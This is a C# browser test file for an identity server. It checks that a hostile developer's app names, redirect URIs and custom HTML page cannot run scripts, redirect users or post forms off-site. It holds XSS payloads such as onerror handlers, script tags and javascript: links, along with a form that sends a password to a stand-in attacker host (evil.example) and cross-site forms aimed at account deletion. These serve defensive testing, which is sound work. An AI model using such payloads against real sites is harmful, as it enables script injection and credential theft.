using System.Text.Json;
using Latchkey.Tests.Harness;

namespace Latchkey.BrowserTests;

/// <summary>
/// A developer who tries everything through what a developer controls, against users and the operator, who are in one browser at one host:
/// security.md rows 148 and 150.
/// </summary>
public sealed class HostileTenantTests(BrowserFixture installation)
{
    private const string Ann = "ann@example.com";
    private const string Markup = "\"'><img src=x onerror=hit()><script>hit()</script>";
    private const string Evil = "https://evil.example";

    /// <summary>A page of the developer's own, shown after the link in a mail: all that HTML can do by itself.</summary>
    private const string OwnPage = """
        <base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/refresh">
        <script>hit()</script><img src="https://evil.example/x" onerror="hit()"><svg onload="hit()"></svg>
        <iframe src="PUBLIC/portal"></iframe><iframe srcdoc="<script>parent.hit()</script>"></iframe><object data="PUBLIC/portal"></object>
        <p id="theirs">%HANDLE%</p>
        <form id="away" method="post" action="https://evil.example/take"><input name="password"><button>Away</button></form>
        <form id="portal" method="post" action="PUBLIC/portal/sign-out"><button>Portal</button></form>
        <form id="account" method="post" action="PUBLIC/apps/APPID/account/delete"><button>Account</button></form>
        <a id="script" href="javascript:hit()">Run</a>
        """;

    [Fact]
    public async Task what_a_developer_controls_runs_nothing_and_leads_nowhere_on_any_page()
    {
        await using var site = await Site.Start(installation, Markup);
        var (page, app) = (site.Page, site.App);
        await site.Server.Command(
            "",
            "app",
            "branding",
            "set",
            app.Id,
            "--name",
            Markup,
            "--terms-url",
            $"{Evil}/?%22%3E%3Cscript%3Ehit()"
        );
        await site.Server.Command("", "app", "branding", "publish", app.Id);
        var redirect = $"{Evil}/cb?x=%22%3E%3Cscript%3Ehit()%3C/script%3E";
        var client = JsonDocument.Parse(
            await site.Server.Command(
                "",
                "client",
                "create",
                app.Id,
                "--name",
                Markup,
                "--type",
                "browser",
                "--redirect-uri",
                redirect,
                "--json"
            )
        );
        var id = client.RootElement.GetProperty("clientId").GetString()!;
        await site.Server.Command(
            "secret",
            ["provider", "create", app.Id, "oidc", $"name={Markup}", "clientId=x", $"issuer={Evil}", "--secret-stdin"]
        );
        var authorize =
            $"/apps/{app.Id}/oauth2/authorize?response_type=code&client_id={id}&redirect_uri={Uri.EscapeDataString(redirect)}"
            + "&scope=openid%20email&code_challenge=E9Melhoa2OwvFrEMTJguCHaoeK1t8URWbuGJSstw-cM&code_challenge_method=S256"
            + $"&state={Uri.EscapeDataString(Markup)}&login_hint={Uri.EscapeDataString(Markup)}&ui_locales={Uri.EscapeDataString(Markup)}";
        string[] pages =
        [
            authorize,
            $"/apps/{app.Id}/login",
            $"/apps/{app.Id}/signup",
            $"/apps/{app.Id}/forgot",
            $"/apps/{app.Id}/device",
            $"/apps/{app.Id}/device?user_code={Uri.EscapeDataString(Markup)}",
            $"/apps/{app.Id}/logout",
            $"/apps/{app.Id}/oauth2/logout?post_logout_redirect_uri={Uri.EscapeDataString(redirect)}",
            $"/apps/{app.Id}/oauth2/authorize?client_id={Uri.EscapeDataString(Markup)}",
            $"/apps/{app.Id}/login?request={Uri.EscapeDataString(Markup)}",
        ];
        foreach (var path in pages)
        {
            await site.Visit(path);
        }

        await page.GotoAsync(authorize);
        await site.SignIn();
        await site.Check("consent");
        foreach (var path in new[] { "", "/profile", "/sessions", "/consents", "/providers", "/passkeys", "/password" })
        {
            await site.Visit($"/apps/{app.Id}/account{path}");
        }

        foreach (var path in PageList.Of(app).Concat([$"{app.Path}/clients/{id}", $"{app.Path}/clients/{id}/code", $"{app.Path}/domains"]))
        {
            await site.Visit(path);
        }

        site.ShouldBeUnharmed();
    }

    [Fact]
    public async Task a_developers_own_page_stays_in_its_sandbox_and_the_portal_is_out_of_its_reach()
    {
        await using var site = await Site.Start(installation, "Harbour Walks");
        var (page, app) = (site.Page, site.App);
        site.LoadsWhatItLikes = true;
        var html = OwnPage.Replace("PUBLIC", site.Address.AbsoluteUri.TrimEnd('/')).Replace("APPID", app.Id);
        var file = Path.Combine(site.Server.DataFolder, "own.html");
        await File.WriteAllTextAsync(file, html);
        await site.Server.Command("", "template", "set", app.Id, "EN", "clickThrough", "--html", file);
        await site.Server.Command("", "app", "set", app.Id, "signupFlow=link");
        using var http = new HttpClient(site.Proxy.Handler());
        foreach (var (form, blocked) in new[] { ("away", true), ("portal", false), ("account", false) })
        {
            var handle = $"{form}@example.com";
            using var signup = new HttpRequestMessage(HttpMethod.Post, new Uri(site.Address, "/api/appuser/signup"))
            {
                Content = new StringContent(
                    $$"""{"handle": "{{handle}}", "password": "{{BrowserFixture.Password}}"}""",
                    System.Text.Encoding.UTF8,
                    "application/json"
                ),
                Headers = { { "app-token", app.AppToken } },
            };
            using var answer = await http.SendAsync(signup);
            answer.EnsureSuccessStatusCode();
            var mail = JsonDocument.Parse(await site.Server.Command("", "mailbox", "--to", handle, "--json")).RootElement[0];
            await page.GotoAsync(mail.GetProperty("link").GetString()!);
            await page.GetByRole(AriaRole.Button).First.ClickAsync();
            await Assertions.Expect(page.Locator("#theirs")).ToHaveTextAsync(handle);
            (await page.EvaluateAsync<string>("self.origin")).ShouldBe("null");
            page.Frames.Skip(1)
                .ShouldAllBe(frame =>
                    frame.Url == ""
                    || frame.Url.StartsWith("about:", StringComparison.Ordinal)
                    || frame.Url.StartsWith("chrome-error:", StringComparison.Ordinal)
                );
            await page.EvalOnSelectorAsync("#script", "link => link.click()");
            await page.EvalOnSelectorAsync($"#{form} button", "button => button.click()");
            if (blocked)
            {
                site.ShouldBeUnharmed(); // no request to where the form leads
            }
            else
            {
                await Assertions.Expect(page.Locator("#theirs")).Not.ToBeVisibleAsync(); // an answer, and it is a refusal
            }
        }

        await page.GotoAsync("/portal/account");
        await Assertions.Expect(page.GetByRole(AriaRole.Heading, new() { Name = "Your account" }).First).ToBeVisibleAsync();
        site.ShouldBeUnharmed();
    }

    /// <summary>A server by https, one application on it, and a browser in which the operator is signed in to the portal.</summary>
    private sealed class Site(
        LatchkeyServer server,
        TlsProxy proxy,
        Uri address,
        IBrowserContext context,
        IPage page,
        CreatedApplication app
    ) : IAsyncDisposable
    {
        private readonly List<string> harm = [];

        public LatchkeyServer Server => server;

        public TlsProxy Proxy => proxy;

        public Uri Address => address;

        public IPage Page => page;

        public CreatedApplication App => app;

        /// <summary>A developer's own page may load images and frames of others; then only leaving the page is harm.</summary>
        public bool LoadsWhatItLikes { get; set; }

        public static async Task<Site> Start(BrowserFixture installation, string name)
        {
            var address = TlsProxy.FindAddress();
            var server = await LatchkeyServer.Start("--public-url", address.AbsoluteUri, "--proxies", "127.0.0.1/32");
            var proxy = await TlsProxy.Start(address, new Uri(server.Url));
            var made = JsonDocument
                .Parse(await server.Command("", "app", "create", "--name", name, "--json", "signupFlow=none"))
                .RootElement;
            var app = new CreatedApplication(
                made.GetProperty("appId").GetString()!,
                made.GetProperty("appToken").GetString()!,
                made.GetProperty("appSecret").GetString()!,
                "",
                ""
            );
            await server.Command(BrowserFixture.Password, "user", "add", app.Id, Ann, "--password-stdin");
            await server.Command(
                BrowserFixture.Password,
                ["operator", "create", "--email", BrowserFixture.Email, "--name", "Ada", "--password-stdin"]
            );
            var context = await installation.Browser.NewContextAsync(new() { BaseURL = address.AbsoluteUri, IgnoreHTTPSErrors = true });
            var site = new Site(server, proxy, address, context, await context.NewPageAsync(), app);
            await site.Watch();
            await site.Page.SignIn();
            await Assertions.Expect(site.Page.GetByRole(AriaRole.Heading, new() { Name = "Applications" })).ToBeVisibleAsync();
            return site;
        }

        public async Task Visit(string path)
        {
            await page.GotoAsync(path);
            await Check(path);
        }

        /// <summary>Every form of the page is sent to this server, and no link runs a script.</summary>
        public async Task Check(string what)
        {
            var targets = await page.EvaluateAsync<string[]>(
                "[...document.forms].map(form => new URL(form.getAttribute('action') ?? '', location).href)"
            );
            harm.AddRange(targets.Where(target => !IsHere(target)).Select(target => $"{what}: a form to {target}"));
            var scripts = await page.EvaluateAsync<int>("document.querySelectorAll('a[href^=\"javascript:\" i]').length");
            harm.AddRange(Enumerable.Repeat($"{what}: a link to a script", scripts));
        }

        public async Task SignIn()
        {
            await page.GetByLabel("E-mail address").FillAsync(Ann);
            await page.GetByLabel("Password").FillAsync(BrowserFixture.Password);
            await page.GetByRole(AriaRole.Button, new() { Name = "Sign in", Exact = true }).ClickAsync();
        }

        public void ShouldBeUnharmed() => harm.ShouldBeEmpty();

        public async ValueTask DisposeAsync()
        {
            await context.DisposeAsync();
            await proxy.DisposeAsync();
            await server.DisposeAsync();
        }

        /// <summary>A script that runs, a dialog, and a request to another site are harm.</summary>
        private async Task Watch()
        {
            await page.ExposeFunctionAsync("hit", () => harm.Add($"a script ran on {page.Url}"));
            page.Dialog += async (_, dialog) =>
            {
                harm.Add($"a dialog: {dialog.Message}");
                await dialog.DismissAsync();
            };
            await context.RouteAsync(
                url => !IsHere(url),
                async route =>
                {
                    if (!LoadsWhatItLikes || (route.Request.IsNavigationRequest && route.Request.Frame == page.MainFrame))
                    {
                        harm.Add($"a request to {route.Request.Url}");
                    }

                    await route.AbortAsync();
                }
            );
        }

        private bool IsHere(string url) =>
            url.StartsWith(address.AbsoluteUri, StringComparison.Ordinal) || url.StartsWith("data:", StringComparison.Ordinal);
    }
}
